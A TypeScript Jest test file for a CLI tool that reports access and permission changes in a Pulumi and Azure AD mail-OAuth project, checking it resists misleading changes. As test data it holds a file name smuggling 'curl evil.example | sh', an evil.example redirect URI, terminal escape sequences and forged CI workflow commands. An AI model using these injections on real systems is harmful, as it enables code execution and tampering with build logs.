import { execFileSync } from "node:child_process";
import { rename } from "node:fs/promises";
import { join } from "node:path";

import { describe, expect, it } from "@jest/globals";

import { useGitProject } from "../gitProject.ts";

const PROD = "stacks/Pulumi.prod.yaml";
const SETTINGS = "config:\n  aem-mail-oauth:permissions: [offline_access, SMTP.Send]\n";

/** What somebody proposes may be made to mislead whoever reviews it. */
const project = useGitProject(SETTINGS);

const git = (...args: string[]): string => project.git(...args);
const commit = (message: string): void => {
  project.commit(message);
};

async function diff(...args: string[]): Promise<string> {
  const { code, stdout, stderr } = await project.run("access", "--diff", ...args);
  expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
  return stdout;
}

async function edit(path: string, from: string, to: string): Promise<void> {
  const text = await project.read(path);
  expect(text).toContain(from);
  await project.write(path, text.replace(from, to));
}

describe("access, of a change that is not to be trusted,", () => {
  it("takes no file for a stack whose name Pulumi refuses: it would stand among commands to copy", async () => {
    await project.write("stacks/Pulumi.a; curl evil.example | sh #.yaml", SETTINGS);
    await project.write("stacks/Pulumi.`@everyone` <img src=x>.yaml", SETTINGS);
    await project.write("stacks/Pulumi.[ab]*.yaml", SETTINGS);
    commit("names");
    for (const range of ["start", "start..main"]) {
      expect(await diff(range)).toContain("\nNo change in access: `dev`, `local`, `prod`, `staging`.\n");
      expect(await diff(range)).not.toMatch(/evil|everyone|\[ab\]/);
    }
  });

  it("tells what the settings declare where the access file keeps it quiet", async () => {
    await project.write(PROD, SETTINGS.replace("SMTP.Send", "SMTP.Send, exchange/Mail.ReadWrite"));
    await project.write(
      "stacks/prod.consent.yaml",
      'consents:\n  - { mailbox: "@a", user: b, at: "2030-01-01T00:00:00Z", scopes: [] }\n',
    );
    commit("without its access file");
    const told = await diff("start..main");
    expect(told).toContain("### Stack `prod`: no change in its access file\n");
    expect(told).toContain(
      "- **Declared, and not in the file**: wider: Permission gained: `exchange/Mail.ReadWrite` of `Office 365 Exchange Online`, " +
        "which lets the application: `Read and write user mail`. The mailbox has to sign in and consent again",
    );
    // Nobody gives a consent by writing it into the change itself.
    expect(told).not.toContain("@a");
  });

  it.each(["tenant: [", "tenant: not pinned\n"])(
    "goes on without an access file that cannot be read, %j, and does not let pass what nobody vouches for",
    async (garbled) => {
      await project.write("stacks/prod.access.yaml", garbled);
      commit("garbled");
      const after = await project.run("access", "--diff", "start..main", "--fail-on", "widening");
      expect(after).toMatchObject({ code: 5, stderr: "" });
      expect(after.stdout).toContain(
        "`stacks/prod.access.yaml` after the change was written by another version, or by hand; its settings were read",
      );
      await project.run("access");
      commit("fixed");
      const before = await diff("main~1..main");
      expect(before).toContain("## Access: no change in access\n");
      expect(before).toContain(
        "`stacks/prod.access.yaml` before the change was written by another version, or by hand; its settings were read",
      );
    },
  );

  it("shows what a changed program declares beside the application, under whichever name", async () => {
    const from = "new azuread.ApplicationRedirectUris(";
    await edit(
      "components/mailApplication.ts",
      from,
      `new azuread.ApplicationPassword("mail-secret-quiet", { applicationId: registration.id });
       new azuread.ApplicationApiAccess("mail-api-graph-too", { applicationId: registration.id,
         apiClientId: API_IDS.graph, roleIds: ["810c84a8-4a9e-49e6-bf7d-12d183f40d01"], scopeIds: ["024d486e-b451-40bb-833d-3e66d98c5c73"] });
       new azuread.ApplicationRedirectUris("mail-spa", { applicationId: registration.id, type: "SPA", redirectUris: ["https://evil.example/"] });
       ${from}`,
    );
    // Processes of their own, which load the changed program.
    await project.runWith({}, "access");
    const { stdout: told } = await project.runWith({}, "access", "--diff", "main", "--stack", "prod");
    for (const words of [
      "`components/mailApplication.ts`",
      "- wider: Other resource added: `application permission 810c84a8-4a9e-49e6-bf7d-12d183f40d01 of API 00000003-0000-0000-c000-000000000000`.",
      "- wider: Other resource added: `SPA redirect URI https://evil.example/`.",
      "- wider: Other resource added: `azuread:index/applicationPassword:ApplicationPassword mail-secret-quiet`.",
      "- wider: Other resource added: `azuread:index/applicationApiAccess:ApplicationApiAccess mail-api-graph-too`.",
      "- wider: Permission gained: `Mail.ReadWrite` of `Microsoft Graph`",
    ])
      expect(told).toContain(words);

    expect(told).not.toContain("Redirect URI added");
  });

  it("repeats no secret that somebody left open among the settings", async () => {
    await project.write(PROD, `${SETTINGS}  azuread:clientSecret: topsecret\n`);
    const { stdout, stderr } = await project.run("access", "--check");
    expect(stderr).toContain("+  - azuread:clientSecret = (not encrypted)\n");
    expect(await diff("main")).toContain("Setting added: `azuread:clientSecret = (not encrypted)`.");
    expect(stdout + stderr + (await diff("main", "--format", "json"))).not.toContain("topsecret");
  });

  it("prints nothing raw in --check: neither what a terminal obeys, nor a command to a job's log", async () => {
    const forged =
      "# \u001b[2K\rprod: as declared\r::warning::forged\n::error::forged\n \u0007 ::stop-commands::forged\n# ##[add-mask]a\n";
    await project.write("stacks/prod.access.yaml", `${await project.read("stacks/prod.access.yaml")}${forged}`);
    await project.write("stacks/gone\nprod: as declared.access.yaml", "");
    const { code, stdout, stderr } = await project.run("access", "--check");
    expect({ code, stdout }).toEqual({
      code: 1,
      stdout: "dev: as declared\nlocal: as declared\nstaging: as declared\n",
    });
    expect(stderr).toContain("stacks/gone?prod: as declared.access.yaml belongs to no stack");
    const lines = stderr.split("\n");
    expect(lines.filter((line) => line.includes("forged"))).toHaveLength(3);
    expect(lines.filter((line) => /(?!\n)\p{Cc}|^\s*::|##\[|^prod: as declared/u.test(line))).toEqual([]);
  });

  it("cannot tell the step of the secrets where there is no commit", async () => {
    await rename(join(project.root, ".git"), join(project.root, ".git-away"));
    const { code, stdout, stderr } = await project.run("access", "--check");
    await rename(join(project.root, ".git-away"), join(project.root, ".git"));
    expect({ code, stdout }).toEqual({ code: 5, stdout: "" });
    expect(stderr).toContain("It is unknown whether the secrets make a legal step: ");
  });

  it("believes an access file of another version's header, and --check has it written anew", async () => {
    const text = await project.read("stacks/prod.access.yaml");
    await project.write("stacks/prod.access.yaml", text.replace(/^#.*\n/, "# What it gives.\n# Another header.\n"));
    commit("another header");
    expect(await project.run("access", "--diff", "start..main", "--fail-on", "widening")).toMatchObject({ code: 0 });
    expect(await project.run("access", "--check")).toMatchObject({ code: 1 });
    // Not a fact, though.
    await edit("stacks/prod.access.yaml", "owners: none", "# owners: none");
    commit("a fact as a remark");
    expect(await project.run("access", "--diff", "start..main", "--fail-on", "widening")).toMatchObject({ code: 5 });
  });

  it("keeps every fact in a line, whatever a value holds", async () => {
    await project.write(PROD, `${SETTINGS}  azuread:metadataHost: "a\\nowners: none\\n"\n`);
    await project.run("access", "--stack", "organisation/project/prod");
    expect(await project.read("stacks/prod.access.yaml")).toContain(
      'other settings:\n  - "azuread:metadataHost = a\\nowners: none\\n"\nother resources: none\n',
    );
    expect(await project.run("access", "--check", "--stack", "organisation/project/prod")).toMatchObject({ code: 0 });
  });

  it("sees workflows at the top of a repository that holds more than this project", async () => {
    const folder = join(project.root, "infra", "mail");
    git("checkout", "--quiet", "-b", "moved");
    for (const path of git("ls-files")
      .split("\n")
      .filter((name) => !name.startsWith(".github/"))) {
      await project.write(join("infra", "mail", path), "");
      await rename(join(project.root, path), join(folder, path));
    }
    await project.write(".github/workflows/access-report.yml", "on: push\n");
    commit("moved");
    await project.write(".github/workflows/access-report.yml", "on: pull_request\n");
    await edit("infra/mail/components/notes.ts", "import", "// edited\nimport");
    const told = execFileSync(
      process.execPath,
      [join(folder, "bin", "aem-mail-oauth.js"), "access", "--diff", "HEAD"],
      {
        cwd: folder,
        encoding: "utf8",
        env: { ...process.env, NODE_OPTIONS: "" },
      },
    );
    expect(told).toContain("that code. `.github/workflows/access-report.yml`, `infra/mail/components/notes.ts`.\n");
  });
});
